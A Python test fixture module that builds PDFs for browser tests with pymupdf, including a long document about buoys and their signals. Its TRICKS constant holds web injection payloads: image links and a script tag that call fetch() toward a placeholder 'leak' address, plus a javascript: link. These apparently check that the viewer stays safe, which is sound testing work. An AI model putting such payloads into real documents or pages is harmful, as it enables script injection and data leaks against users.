"""PDFs made for the browser tests."""

from __future__ import annotations

import pymupdf

FOREIGN = "http://203.0.113.9/leak"  # an address kept for documentation: nothing is there
TRICKS = (
    f'![a]({FOREIGN}1.png) <img src="{FOREIGN}2.png"> '
    f'<script>window.hacked=1;fetch("{FOREIGN}3")</script> [b](javascript:window.hacked=1)'
)
FEATURES = ("a green light", "two red flags", "a white flash every four seconds", "a yellow cross")


def pdf(text: str, title: str = "") -> bytes:
    """One page."""
    made = pymupdf.open()
    made.new_page().insert_textbox((50, 50, 545, 790), text, fontsize=11)
    made.set_metadata({"title": title})
    return bytes(made.tobytes())


def long_pdf(pages: int, first: int = 1) -> bytes:
    """Many pages, each about a buoy of its own, from `first` on."""
    made = pymupdf.open()
    for number in range(first, first + pages):
        signal = FEATURES[number % len(FEATURES)]
        text = f"Chapter {number}. The buoy {number} shows {signal}. Ships keep {number + 40} metres away from it. " * 6
        made.new_page().insert_textbox((50, 50, 545, 790), text, fontsize=11)
    return bytes(made.tobytes(deflate=True))
